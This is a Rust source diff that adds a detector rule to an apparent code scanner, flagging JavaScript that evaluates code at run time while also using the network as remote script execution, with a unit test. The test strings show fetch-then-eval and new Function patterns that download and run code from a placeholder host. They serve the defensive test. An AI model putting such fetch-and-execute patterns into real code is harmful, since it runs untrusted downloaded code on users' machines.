@@ -2126,6 +2126,20 @@ impl Out<'_> {
                     .to_owned(),
             );
         }
+        let evaluates = self
+            .report
+            .findings
+            .iter()
+            .any(|f| f.id == finding::DYNAMIC_CODE_EXECUTION.id);
+        if evaluates && !self.sinks.is_empty() {
+            // `fetch(u).then(r => r.text()).then(eval)`: code evaluated at run time by a cell
+            // that also uses the network is read as the downloaded text being run.
+            let detail = format!(
+                "evaluates code built at run time and uses `{}` (downloaded code may run)",
+                self.sinks.first().map_or("", String::as_str)
+            );
+            self.add(&finding::REMOTE_SCRIPT_EXECUTION, detail);
+        }
         if self.base64 {
             for f in &mut self.report.findings {
                 if f.id == finding::DYNAMIC_CODE_EXECUTION.id && !f.detail.contains("base64") {
@@ -3681,6 +3695,24 @@ mod tests {
     }
 
     // ---- dynamic code ----
+
+    #[test]
+    fn evaluating_with_the_network_is_remote_code() {
+        for src in [
+            "fetch('https://x/a.js').then(r => r.text()).then(eval)",
+            "const t = await (await fetch(u)).text(); new Function(t)()",
+            "require('https').get(u, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
+        ] {
+            let r = run(src);
+            assert!(has(&r, "remote-script-execution"), "{src}: {:?}", r.findings);
+        }
+        for src in [
+            "eval(userInput)",
+            "fetch('https://x/a.json').then(r => r.json())",
+        ] {
+            assert!(!has(&run(src), "remote-script-execution"), "{src}");
+        }
+    }
 
     #[test]
     fn eval_and_friends_are_critical() {
